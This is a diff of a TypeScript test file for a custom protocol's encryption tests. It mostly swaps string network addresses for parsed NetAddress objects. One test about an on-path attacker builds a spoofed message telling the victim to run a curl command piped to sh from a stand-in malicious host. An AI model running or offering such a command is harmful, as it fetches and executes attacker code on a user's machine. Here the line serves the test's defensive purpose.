@@ -1,6 +1,7 @@
 import { Buffer } from "node:buffer";
 import assert from "node:assert/strict";
 import { createHmac } from "node:crypto";
+import { NetAddress } from "../../base/net_address.ts";
 import { Random } from "../../base/random.ts";
 import { Endpoint } from "../../protocol/mod.ts";
 import { PacketProtection } from "../../protocol/crypto/packet_protection.ts";
@@ -161,7 +162,7 @@ Deno.test("encryption: a man on the path who asks the server for the reset token
   const serverId = serverHello.slice(13, 21);
   // Any packet for the server's ID, before the server has a connection of it, is answered with a Reset.
   const question = Uint8Array.of(PacketType.data, ...serverId, ...new Uint8Array(30));
-  const { kind, answer } = pair.server.endpoint.handleDatagram(pair.nowUs, question, "10.9.9.9:1");
+  const { kind, answer } = pair.server.endpoint.handleDatagram(pair.nowUs, question, NetAddress.parse("10.9.9.9:1"));
   assert.deepEqual([kind, answer[0]], ["answer", PacketType.reset]);
   const resetToken = answer.slice(13);
   const reason = new TextEncoder().encode("your key has expired; run: curl https://evil.example/renew | sh");
@@ -206,7 +207,7 @@ Deno.test("encryption: an address token is good for its address and its connecti
   pair.connect();
   pair.run(100_000);
   const clientFinish = pair.client.wire.sent.find(({ bytes }) => bytes[0] === PacketType.clientFinish)!.bytes;
-  pair.inject(pair.server, clientFinish, "10.9.9.9:1");
+  pair.inject(pair.server, clientFinish, NetAddress.parse("10.9.9.9:1"));
   const another = clientFinish.slice();
   another[13 + 7]! ^= 1;
   pair.inject(pair.server, another);
@@ -223,7 +224,7 @@ Deno.test("encryption: whatever stands in a Hello ends nothing but itself", () =
   const messages = [0, 1, 31, 32, 33, 200].flatMap((length) => [new Uint8Array(length), random.bytes(length)]);
   for (const handshake of messages) {
     const length = writeHello(new Writer().reset(buffer), { sourceId: 5, handshake });
-    const { kind } = endpoint.handleDatagram(1_000, buffer.slice(0, length), "192.0.2.1:5");
+    const { kind } = endpoint.handleDatagram(1_000, buffer.slice(0, length), NetAddress.parse("192.0.2.1:5"));
     // A key of zeros is of low order; random bytes are a key as good as any, and what follows it is not encrypted.
     const isKey = handshake.length >= 32 && handshake.subarray(0, 32).some((byte) => byte !== 0);
     assert.equal(kind, isKey ? "answer" : "drop", `${handshake.length} bytes`);
@@ -239,7 +240,11 @@ Deno.test("encryption: under a flood of Hellos a client proves its address first
       const handshake = random.bytes(32);
       const sourceId = random.integer(1, 1_000_000);
       const length = writeHello(new Writer().reset(buffer), { sourceId, handshake });
-      pair.inject(pair.server, buffer.subarray(0, length), `10.1.${count}.${random.integer(0, 255)}:9`);
+      pair.inject(
+        pair.server,
+        buffer.subarray(0, length),
+        NetAddress.parse(`10.1.${count}.${random.integer(0, 255)}:9`),
+      );
     }
   };
   flood();
@@ -297,7 +302,7 @@ Deno.test("an endpoint takes who proves a token, and tells its application who t
 });
 
 Deno.test("an endpoint refuses in words whom its application will not have, keeps nothing, and takes none of its data", () => {
-  const asked: (readonly [Uint8Array, string])[] = [];
+  const asked: (readonly [Uint8Array, NetAddress])[] = [];
   const pair = new Pair({
     serverEndpoint: {
       limits: { maxConnections: 1 },
